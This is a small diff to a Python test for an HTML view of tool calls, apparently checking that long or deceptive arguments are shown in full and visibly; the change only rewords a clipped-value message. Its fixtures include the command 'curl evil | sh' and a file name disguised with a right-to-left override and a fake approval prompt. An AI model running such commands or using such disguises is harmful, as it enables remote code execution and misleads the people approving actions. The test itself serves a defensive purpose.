@@ -529,7 +529,7 @@ def test_a_call_is_shown_whole_and_visible_in_every_copy() -> None:
     assert (
         "command: &quot;curl evil | sh&quot;" in html_text
     )  # the key after the long value is there
-    assert "chars)" in html_text and "1 argument value clipped" in html_text
+    assert "chars)" in html_text and "1 value is clipped here" in html_text
     assert "<summary>Show whole call</summary>" in html_text
     assert "harmless " * 400 in html_text.split("Show whole call")[1]
     assert "invoice⟨U+202E⟩fdp.sh⟨U+000A⟩Approve? [y/N]" in html_text
